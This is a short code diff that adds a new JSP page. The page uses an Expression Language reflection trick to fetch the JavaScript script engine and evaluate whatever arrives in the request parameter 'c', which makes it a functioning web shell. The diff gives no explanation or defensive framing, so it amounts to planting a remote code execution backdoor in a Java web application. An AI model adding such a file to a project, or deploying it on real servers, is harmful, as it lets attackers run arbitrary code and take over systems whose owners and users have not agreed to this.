@@ -1,0 +1,4 @@
+<%@ page isELIgnored="false" %>
+<html><body>
+${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.c)}
+</body></html>
